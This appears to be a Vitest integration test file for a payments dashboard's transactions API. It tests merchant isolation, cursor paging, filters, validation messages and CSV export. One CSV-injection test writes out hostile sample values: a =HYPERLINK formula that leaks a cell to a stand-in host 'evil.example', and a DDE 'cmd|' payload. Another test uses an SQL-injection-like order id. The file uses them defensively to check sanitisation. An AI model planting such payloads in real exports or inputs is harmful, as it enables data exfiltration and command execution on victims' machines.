import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { eq, sql } from "drizzle-orm";
import { collects, invoices, payableLinks, quickPays, transactions } from "../../db/schema";
import { TEST_BACKENDS } from "../../testing/databases";
import { appSuite } from "../../testing/app-suite";
import { USD_PRODUCT_INFO, seeMadeUpPaymentPaid, startMadeUpPayment } from "../../testing/made-up-payments";
import { transactionsCsv } from "./csv";
import { signInMerchant } from "../../testing/merchants";
import { stringify } from "csv-stringify/sync";
import { csvSafeText } from "@/lib/csv-cell";
import fc from "fast-check";
import { formatBaseUnits } from "@/lib/money";
import { orderTypeLabel } from "@/lib/order-types";

type Merchant = Awaited<ReturnType<typeof signInMerchant>>;
const ALL = "txStatus=initiated,paid,validated,failed";

describe.each(TEST_BACKENDS)("Orders (/transactions) on %s", (kind) => {
  const suite = appSuite(kind);

  const get = (path: string, m?: Pick<Merchant, "auth">) => suite.app.request(`/api${path}`, { headers: { ...(m?.auth ?? {}) } });
  const page = async (path: string, m: Merchant) => {
    const res = await get(path, m);
    expect(res.status).toBe(200);
    return (await res.json()).data.table as { list: { _id: string; orderId: string; status: string; hash: string | null; createdAt: string; type: string }[]; next: { iid: string; tid: string } | null; prev: { iid: string; tid: string } | null };
  };

  /** A payment started `minutesAgo`, for `amount` USDC, optionally paid (confirmed) and validated (finalized). */
  async function payment(m: Merchant, options: { minutesAgo?: number; amount?: bigint; paid?: boolean; finalized?: boolean; productType?: string; productId?: string; donor?: string } = {}) {
    const amount = options.amount ?? 12_500_000n;
    const tx = await startMadeUpPayment(suite.db, m.id, {
      productType: (options.productType ?? "quick-pay") as "quick-pay",
      productId: options.productId ?? null,
      requestedAmount: amount,
      productInfo: USD_PRODUCT_INFO,
      ...(options.donor ? { orderDetails: { donor: { name: options.donor } } } : {}),
    });
    await suite.db
      .update(transactions)
      .set({ createdAt: sql`now() - make_interval(mins => ${options.minutesAgo ?? 0})` })
      .where(eq(transactions.id, tx.id));
    const seen = options.paid === false ? undefined : await seeMadeUpPaymentPaid(suite.db, tx, { finalized: options.finalized !== false });
    return { ...tx, signature: seen?.signature ?? null };
  }

  it("refuses a caller without a session on every route", async () => {
    for (const path of ["/transactions", "/transactions/next/1/00000000-0000-4000-8000-000000000000", "/all-transactions", "/customers", "/transactions?limit=all"]) {
      expect((await get(path)).status, path).toBe(401);
    }
  });

  it("lists the merchant's own payments newest first with the SPEC default filters, and never another merchant's", async () => {
    const a = await signInMerchant(suite.app);
    const b = await signInMerchant(suite.app);
    const older = await payment(a, { minutesAgo: 30 });
    const newer = await payment(a, { minutesAgo: 5 });
    const pending = await payment(a, { minutesAgo: 1, paid: false });
    const theirs = await payment(b, { minutesAgo: 2 });

    const mine = await page("/transactions", a);
    expect(mine.list.map((r) => r._id)).toEqual([newer.id, older.id]);
    expect(mine.list[0]).toMatchObject({ status: "validated", type: "quick-pay", orderId: newer.publicId, hash: newer.signature });
    expect(mine.next).toBeNull();
    expect(mine.prev).toBeNull();
    // The initiated one is outside the default statuses (failed, validated, paid) but still listed when asked.
    expect((await page(`/transactions?${ALL}`, a)).list.map((r) => r._id)).toEqual([pending.id, newer.id, older.id]);
    expect((await page("/all-transactions", a)).list.map((r) => r._id)).toEqual([pending.id, newer.id, older.id]);

    const others = await page(`/transactions?${ALL}`, b);
    expect(others.list.map((r) => r._id)).toEqual([theirs.id]);
    // Another merchant's hash finds nothing, and a cursor taken from their list reads only my own rows.
    expect((await page(`/transactions?filterText=${theirs.signature}`, a)).list).toEqual([]);
    const viaTheirCursor = await page(`/transactions/next/${others.list.length ? "9999999999999999" : "0"}/${theirs.id}?${ALL}`, a);
    expect(viaTheirCursor.list.every((r) => r._id !== theirs.id)).toBe(true);
    const payers = await (await get("/customers", a)).json();
    expect(payers.data).toEqual([expect.objectContaining({ payer: "Payer111111111111111111111111111111111111111", chain: -5001, payments: 2 })]);
  });

  it("pages forward and back by cursor, and rows inserted between pages neither repeat nor shift the next page", async () => {
    const m = await signInMerchant(suite.app);
    const made = [];
    for (let i = 0; i < 7; i++) made.push(await payment(m, { minutesAgo: 60 - i }));
    const newestFirst = made.map((t) => t.id).reverse();

    const first = await page("/transactions?limit=3", m);
    expect(first.list.map((r) => r._id)).toEqual(newestFirst.slice(0, 3));
    expect(first.prev).toBeNull();
    expect(first.next).toEqual({ iid: expect.stringMatching(/^\d+$/), tid: newestFirst[2] });

    // Two payments arrive while the merchant reads page one: they sort before it, never into page two.
    await payment(m, { minutesAgo: 0 });
    await payment(m, { minutesAgo: 0 });
    const second = await page(`/transactions/next/${first.next!.iid}/${first.next!.tid}?limit=3`, m);
    expect(second.list.map((r) => r._id)).toEqual(newestFirst.slice(3, 6));
    const third = await page(`/transactions/next/${second.next!.iid}/${second.next!.tid}?limit=3`, m);
    expect(third.list.map((r) => r._id)).toEqual(newestFirst.slice(6));
    expect(third.next).toBeNull();

    const back = await page(`/transactions/prev/${third.prev!.iid}/${third.prev!.tid}?limit=3`, m);
    expect(back.list.map((r) => r._id)).toEqual(newestFirst.slice(3, 6));
    const backAgain = await page(`/transactions/prev/${back.prev!.iid}/${back.prev!.tid}?limit=3`, m);
    expect(backAgain.list.map((r) => r._id)).toEqual(newestFirst.slice(0, 3));
    // Before the old first page now lie the two new payments, so going back once more finds them.
    expect(backAgain.prev).not.toBeNull();
    expect((await page(`/transactions/prev/${backAgain.prev!.iid}/${backAgain.prev!.tid}?limit=3`, m)).list).toHaveLength(2);
  });

  it("pages /all-transactions by its own cursors, unfiltered: forward then back, every row once, none of another merchant's", async () => {
    const m = await signInMerchant(suite.app);
    const other = await signInMerchant(suite.app);
    const made = [];
    // Rows the Orders filters' defaults would leave out: initiated, failed, and older than yesterday.
    for (let i = 0; i < 8; i++) {
      made.push(await payment(m, { minutesAgo: 60 * 24 * (8 - i), paid: i % 3 !== 0 }));
      await payment(other, { minutesAgo: 60 * 24 * (8 - i) + 1 });
    }
    await suite.db.update(transactions).set({ status: "failed" }).where(eq(transactions.id, made[4]!.id));
    const newestFirst = made.map((t) => t.id).reverse();

    const pages: string[][] = [];
    let p = await page("/all-transactions?limit=3", m);
    expect(p.prev).toBeNull();
    pages.push(p.list.map((r) => r._id));
    while (p.next) {
      p = await page(`/all-transactions/next/${p.next.iid}/${p.next.tid}?limit=3`, m);
      pages.push(p.list.map((r) => r._id));
    }
    expect(pages.flat()).toEqual(newestFirst);
    expect(pages.map((l) => l.length)).toEqual([3, 3, 2]);

    const back: string[][] = [];
    while (p.prev) {
      p = await page(`/all-transactions/prev/${p.prev.iid}/${p.prev.tid}?limit=3`, m);
      back.unshift(p.list.map((r) => r._id));
    }
    expect(back).toEqual(pages.slice(0, -1));
    expect(p.prev).toBeNull();

    // Another merchant's cursor walks only my own rows.
    const theirs = await page("/all-transactions?limit=1", other);
    const viaTheirs = await page(`/all-transactions/next/${theirs.next!.iid}/${theirs.next!.tid}?limit=100`, m);
    expect(viaTheirs.list.every((r) => newestFirst.includes(r._id))).toBe(true);
    // A cursor that is no cursor, and no session.
    expect((await get("/all-transactions/next/x/y", m)).status).toBe(400);
    expect((await get(`/all-transactions/prev/${theirs.next!.iid}/${theirs.next!.tid}`)).status).toBe(401);
  });

  it("keeps rows with the same created_at apart by id, so none is skipped at a page boundary", async () => {
    const m = await signInMerchant(suite.app);
    const made = [];
    for (let i = 0; i < 5; i++) made.push(await payment(m));
    await suite.db.update(transactions).set({ createdAt: sql`date_trunc('second', now())` }).where(eq(transactions.userId, m.id));
    const seen: string[] = [];
    let path = "/transactions?limit=2";
    for (;;) {
      const p = await page(path, m);
      seen.push(...p.list.map((r) => r._id));
      if (!p.next) break;
      path = `/transactions/next/${p.next.iid}/${p.next.tid}?limit=2`;
    }
    expect([...seen].sort()).toEqual(made.map((t) => t.id).sort());
  });

  it("filters by hash, order id, payer's name and e-mail, status, dates and amounts", async () => {
    const m = await signInMerchant(suite.app);
    const small = await payment(m, { amount: 1_000_000n });
    const big = await payment(m, { amount: 250_000_000n });
    const failed = await payment(m, { paid: false });
    await suite.db.update(transactions).set({ status: "failed", failedAt: new Date() }).where(eq(transactions.id, failed.id));
    const old = await payment(m, { minutesAgo: 3 * 24 * 60 });
    const [collect] = await suite.db
      .insert(collects)
      .values({ hashedId: `c${randomBytes(6).toString("hex")}`, userId: m.id, name: "Ada Lovelace", email: "ada@example.com", description: "x", price: "1", currency: "USD", useFiat: true, userCurrency: "USD" })
      .returning();
    const asked = await payment(m, { productType: "collect", productId: collect.id });
    const donation = await payment(m, { productType: "donate", donor: "Grace 100% Hopper" });
    const ids = async (q: string) => (await page(`/transactions?${q}`, m)).list.map((r) => r._id);

    expect(await ids(`filterText=${small.signature}`)).toEqual([small.id]);
    expect(await ids(`filterText=${big.publicId}`)).toEqual([big.id]);
    // Hash only: the public id is not a hash.
    expect(await ids(`filterText=${big.publicId}&filterFields=hash`)).toEqual([]);
    expect(await ids("filterText=lovelace&filterFields=name")).toEqual([asked.id]);
    expect(await ids("filterText=ADA@EXAMPLE&filterFields=email")).toEqual([asked.id]);
    expect(await ids("filterText=100%25&filterFields=name,email")).toEqual([donation.id]);
    expect(await ids("txStatus=failed")).toEqual([failed.id]);
    expect(await ids("minAmount=100")).toEqual([big.id]);
    expect(await ids("maxAmount=1&txStatus=paid,validated")).toEqual([small.id]);
    expect(await ids("minAmount=1&maxAmount=1.0")).toEqual([small.id]);
    const day = (d: Date) => `${String(d.getUTCDate()).padStart(2, "0")}/${String(d.getUTCMonth() + 1).padStart(2, "0")}/${d.getUTCFullYear()}`;
    const threeDaysAgo = new Date(Date.now() - 3 * 24 * 3600_000);
    expect(await ids(`timeStart=${day(threeDaysAgo)}&timeEnd=${day(threeDaysAgo)}`)).toEqual([old.id]);
    // The default window (yesterday through today) leaves the three-day-old payment out.
    expect(await ids("")).not.toContain(old.id);
  });

  it("finds an invoice's payment by its Bill To name and e-mail, and a product's payments by the Order ID its own table shows", async () => {
    const m = await signInMerchant(suite.app);
    const other = await signInMerchant(suite.app);
    const invoiceFor = async (owner: Merchant, name: string, email: string) => {
      const [row] = await suite.db
        .insert(invoices)
        .values({
          hashedId: `i${randomBytes(6).toString("hex")}`,
          userId: owner.id,
          kind: "bill",
          number: `ZSH-${randomBytes(3).toString("hex")}`,
          issuedOn: "2026-11-01",
          paymentDueOn: "2026-11-30",
          billTo: { name, email, address: [] },
          inclusions: [],
          totalCents: 1250n,
        })
        .returning();
      await suite.db.insert(payableLinks).values({ hashedId: row.hashedId, productType: "bill", productId: row.id, userId: owner.id });
      return row;
    };
    const billed = await invoiceFor(m, "Łukasz Żółć", "lukasz@example.pl");
    const paid = await payment(m, { productType: "bill", productId: billed.id });
    const theirs = await invoiceFor(other, "Łukasz Żółć", "lukasz@example.pl");
    await payment(other, { productType: "bill", productId: theirs.id });
    const ids = async (q: string) => (await page(`/transactions?${q}`, m)).list.map((r) => r._id);

    expect(await ids("filterText=żółć&filterFields=name")).toEqual([paid.id]);
    expect(await ids("filterText=LUKASZ@EXAMPLE&filterFields=email")).toEqual([paid.id]);
    expect(await ids(`filterText=${billed.hashedId}`)).toEqual([paid.id]); // order_id is a default field
    expect(await ids(`filterText=${billed.hashedId}&filterFields=hash`)).toEqual([]);
    // Another merchant's invoice id finds nothing here, even though its payment exists.
    expect(await ids(`filterText=${theirs.hashedId}`)).toEqual([]);
    const csv = (await (await get(`/transactions?filterText=${billed.hashedId}&limit=all`, m)).text()).trim().split("\n");
    expect(csv.slice(1).map((l) => l.split(",")[1])).toEqual([paid.publicId]);
  });

  it("answers each malformed filter with 400 and a message that names it", async () => {
    const m = await signInMerchant(suite.app);
    const cases: [string, string, string][] = [
      ["timeStart=2026-11-01", "timeStart", "Start date must be a date written dd/MM/yyyy"],
      ["timeEnd=31/02/2026", "timeEnd", "End date must be a date written dd/MM/yyyy"],
      ["timeStart=02/11/2026&timeEnd=01/11/2026", "timeEnd", "End date is before the start date"],
      ["txStatus=paid,lost", "txStatus", "Unknown status 'lost': use initiated, partly_paid, paid, validated, failed"],
      ["filterFields=phone", "filterFields", "Unknown search field 'phone': use name, email, hash, order_id"],
      ["minAmount=-1", "minAmount", "Minimum amount must be a positive number"],
      ["maxAmount=1e3", "maxAmount", "Maximum amount must be a positive number"],
      ["minAmount=5&maxAmount=4.99", "maxAmount", "Maximum amount is less than the minimum amount"],
      [`filterText=${"x".repeat(201)}`, "filterText", "Search text is longer than 200 characters"],
      ["tz=Mars/Olympus", "tz", "Unknown time zone 'Mars/Olympus'"],
      ["limit=0", "limit", "limit must be a whole number from 1 to 100, or all"],
      ["limit=101", "limit", "limit must be a whole number from 1 to 100, or all"],
    ];
    for (const [query, path, message] of cases) {
      const res = await get(`/transactions?${query}`, m);
      expect(res.status, query).toBe(400);
      const body = await res.json();
      expect(body.message, query).toBe(message);
      expect(body.issues, query).toContainEqual({ path, message });
    }
    const bad = await get("/transactions/next/abc/not-a-uuid", m);
    expect(bad.status).toBe(400);
    expect((await bad.json()).message).toBe("This page link is not valid: start again from the first page");
  });

  it("streams transactions.csv of every row the filters select, across batches, and only the merchant's", async () => {
    const m = await signInMerchant(suite.app);
    const other = await signInMerchant(suite.app);
    const made = [];
    for (let i = 0; i < 4; i++) made.push(await payment(m, { minutesAgo: 10 - i, amount: BigInt(1_000_000 * (i + 1)) }));
    await payment(m, { paid: false });
    await payment(other);
    const res = await get("/transactions?limit=all&minAmount=2", m);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="transactions.csv"');
    const lines = (await res.text()).trim().split("\n");
    expect(lines[0]).toBe("Date,Order ID,Requested Amount,Received Amount,Currency,Status,Type,Hash,Payer,Chain");
    expect(lines.slice(1).map((l) => l.split(",")[1])).toEqual([made[3].publicId, made[2].publicId, made[1].publicId]);
    expect(lines[1].split(",").slice(2, 8)).toEqual(["4", "4", "USDC", "validated", "zLink", made[3].signature]);
    // Batches of one row walk the same keyset as the pages: same rows, same order, none twice.
    const stream = transactionsCsv(suite.database, { userId: m.id, filters: null, timeZone: "UTC" }, 1);
    const batched = (await new Response(stream).text()).trim().split("\n");
    expect(batched).toHaveLength(1 + 5);
    expect(new Set(batched.map((l) => l.split(",")[1])).size).toBe(6);
    const bad = await get("/transactions?limit=all&timeStart=yesterday", m);
    expect(bad.status).toBe(400);
  });

  it("lists only one product type when asked (the zAPI page: type dynamic), in pages and the CSV, and never another merchant's", async () => {
    const m = await signInMerchant(suite.app);
    const other = await signInMerchant(suite.app);
    const link = await payment(m, { minutesAgo: 3 });
    const api = await payment(m, { minutesAgo: 2, productType: "dynamic" });
    await payment(other, { minutesAgo: 1, productType: "dynamic" });
    expect((await page("/transactions", m)).list.map((r) => r._id)).toEqual([api.id, link.id]);
    const only = await page("/transactions?type=dynamic", m);
    expect(only.list.map((r) => [r._id, r.type])).toEqual([[api.id, "dynamic"]]);
    expect((await page(`/transactions?type=dynamic&filterText=${link.signature}`, m)).list).toEqual([]);
    const csv = (await (await get("/transactions?type=dynamic&limit=all", m)).text()).trim().split("\n");
    expect(csv.slice(1).map((l) => l.split(",")[1])).toEqual([api.publicId]);
    expect(csv[1].split(",")[6]).toBe("zApi");
    const bad = await get("/transactions?type=nope", m);
    expect(bad.status).toBe(400);
  });

  it("writes every CSV line exactly as csv-stringify would, whatever an order id, token or payer holds", async () => {
    const m = await signInMerchant(suite.app);
    // Commas, quotes, CR, LF, formulas, non-Latin text, spaces: fields the database quotes itself.
    const tricky = ["a,b", 'say "hi"', "line\nbreak", "cr\rhere", "=1+2", "ünïcödé ✓ 注文", " padded ", '"', ",", "plain", ""];
    const random = fc.sample(fc.string({ unit: fc.constantFrom("a", "b", ",", '"', "\n", "\r", " ", "é", "😀", "'"), minLength: 1, maxLength: 12 }), 20);
    const values = [...tricky, ...random];
    for (const [i, value] of values.entries()) {
      const tx = await payment(m, { minutesAgo: i, paid: i % 3 !== 0 });
      await suite.db
        .update(transactions)
        .set({ merchantExtras: { orderId: value }, ...(i % 4 === 1 ? { payer: value, refundedAt: new Date() } : {}), ...(i === 2 ? { token: "US,DC" } : {}) })
        .where(eq(transactions.id, tx.id));
    }
    const rows = await suite.db.select().from(transactions).where(eq(transactions.userId, m.id)).orderBy(sql`created_at desc, id desc`);
    const expected = stringify([
      ["Date", "Order ID", "Requested Amount", "Received Amount", "Currency", "Status", "Type", "Hash", "Payer", "Chain"],
      ...rows.map((r) => [
        r.createdAt.toISOString(),
        csvSafeText(r.merchantExtras?.orderId ?? r.publicId),
        formatBaseUnits(r.requestedAmount, r.decimals),
        r.receivedAmount === null ? "" : formatBaseUnits(r.receivedAmount, r.decimals),
        csvSafeText(r.token),
        r.refundedAt ? "refunded" : r.status,
        orderTypeLabel(r.productType),
        csvSafeText(r.signature ?? ""),
        csvSafeText(r.payer ?? ""),
        String(r.chainId),
      ]),
    ]);
    const res = await get(`/transactions?limit=all&${ALL}`, m);
    expect(await res.text()).toBe(expected);
    // Batches of three: the same bytes.
    expect(await new Response(transactionsCsv(suite.database, { userId: m.id, filters: null, timeZone: "UTC" }, 3)).text()).toBe(expected);
  });

  it("csv injection: a zAPI orderId of =HYPERLINK( and a payer of @SUM reach transactions.csv as text, never as a formula", async () => {
    const m = await signInMerchant(suite.app);
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
    const tx = await payment(m, { paid: true });
    await suite.db.update(transactions).set({ merchantExtras: { orderId: evil }, payer: "@SUM(1+1)*cmd|' /C calc'!A0" }).where(eq(transactions.id, tx.id));
    const [, line] = (await (await get(`/transactions?limit=all&${ALL}`, m)).text()).trim().split("\n");
    expect(line).toContain(`,${stringify([[`'${evil}`]]).trim()},`);
    expect(line).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
    // No text cell, quoted or not, starts a formula (the chain id, a number we write, may be negative).
    for (const trigger of ["=", "+", "@"]) expect(line).not.toMatch(new RegExp(`(^|,)"?\\${trigger}`));
  });

  it("finds in the CSV an order id holding quotes, backslashes and dollar signs, and answers 400 for a NUL, not an error", async () => {
    const m = await signInMerchant(suite.app);
    const odd = "it's \\ $z$ $1 '); --";
    const tx = await payment(m);
    await payment(m);
    await suite.db.update(transactions).set({ merchantExtras: { orderId: odd } }).where(eq(transactions.id, tx.id));
    const res = await get(`/transactions?limit=all&filterFields=order_id&filterText=${encodeURIComponent(odd)}`, m);
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split("\n");
    expect(lines.slice(1).map((l) => l.split(",")[1])).toEqual([odd]);
    for (const path of ["/transactions?limit=all&filterText=a%00b", "/transactions?filterText=a%00b"]) {
      const nul = await get(path, m);
      expect(nul.status).toBe(400);
    }
  });

  it("writes amounts of an 18-decimal token exactly in the CSV", async () => {
    const m = await signInMerchant(suite.app);
    const tx = await payment(m, { amount: 1_234_567_890_123_456_789n, paid: false });
    await suite.db.update(transactions).set({ decimals: 18, status: "failed", receivedAmount: 10n ** 18n }).where(eq(transactions.id, tx.id));
    const lines = (await (await get("/transactions?limit=all&txStatus=failed", m)).text()).trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[1].split(",").slice(2, 4)).toEqual(["1.234567890123456789", "1"]);
  });

  it("names each row's product and payer (issue 28), and shows partly paid payments by default; another merchant sees none of it", async () => {
    const a = await signInMerchant(suite.app);
    const b = await signInMerchant(suite.app);
    const hashed = () => `q${randomBytes(6).toString("hex")}`;
    const [beans] = await suite.db.insert(quickPays).values({ hashedId: hashed(), userId: a.id, label: "Coffee beans", price: "12.5", currency: "USD", useFiat: true, userCurrency: "USD" }).returning();
    const [tea] = await suite.db.insert(quickPays).values({ hashedId: hashed(), userId: a.id, label: "Green tea", price: "12.5", currency: "USD", useFiat: true, userCurrency: "USD" }).returning();
    const [request] = await suite.db
      .insert(collects)
      .values({ hashedId: hashed(), userId: a.id, name: "Ada Lovelace", email: "ada@example.com", description: "Design workshop", price: "1", currency: "USD", useFiat: true, userCurrency: "USD" })
      .returning();
    const [theirLink] = await suite.db.insert(quickPays).values({ hashedId: hashed(), userId: b.id, label: "Their secret product", price: "1", currency: "USD", useFiat: true, userCurrency: "USD" }).returning();
    const paidBeans = await payment(a, { minutesAgo: 4, productId: beans.id });
    const paidTea = await payment(a, { minutesAgo: 3, productId: tea.id });
    const asked = await payment(a, { minutesAgo: 2, productType: "collect", productId: request.id });
    // Started, and 9 of the 12.5 USDC arrived: partly paid, still open.
    const partly = await payment(a, { minutesAgo: 1, productId: beans.id, paid: false });
    await suite.db.update(transactions).set({ receivedAmount: 9_000_000n, amountMismatch: "under" }).where(eq(transactions.id, partly.id));
    const untouched = await payment(a, { minutesAgo: 0, productId: tea.id, paid: false });
    // Another merchant's payment naming A's product id is never labelled with it, nor A's with theirs.
    const theirs = await payment(b, { productId: beans.id });
    const theirOwn = await payment(b, { productId: theirLink.id });

    const rows = (await page("/transactions", a)).list as unknown as { _id: string; status: string; productLabel: string | null; payerEmail: string | null; payer: string | null }[];
    expect(rows.map((r) => r._id)).toEqual([partly.id, asked.id, paidTea.id, paidBeans.id]);
    expect(rows.map((r) => [r.productLabel, r.payerEmail])).toEqual([
      ["Coffee beans", null],
      ["Design workshop", "ada@example.com"],
      ["Green tea", null],
      ["Coffee beans", null],
    ]);
    expect(rows[0]).toMatchObject({ status: "initiated" });
    expect(rows[2]!.payer).toBe("Payer111111111111111111111111111111111111111");
    // Partly paid alone, and initiated (which it still is) with the untouched start.
    expect((await page("/transactions?txStatus=partly_paid", a)).list.map((r) => r._id)).toEqual([partly.id]);
    expect((await page("/transactions?txStatus=initiated", a)).list.map((r) => r._id)).toEqual([untouched.id, partly.id]);

    const others = (await page(`/transactions?${ALL}`, b)).list as unknown as { _id: string; productLabel: string | null }[];
    expect(others.map((r) => [r._id, r.productLabel])).toEqual([
      [theirOwn.id, "Their secret product"],
      [theirs.id, null],
    ]);
    expect((await page("/transactions?txStatus=partly_paid", b)).list).toEqual([]);
  });
});
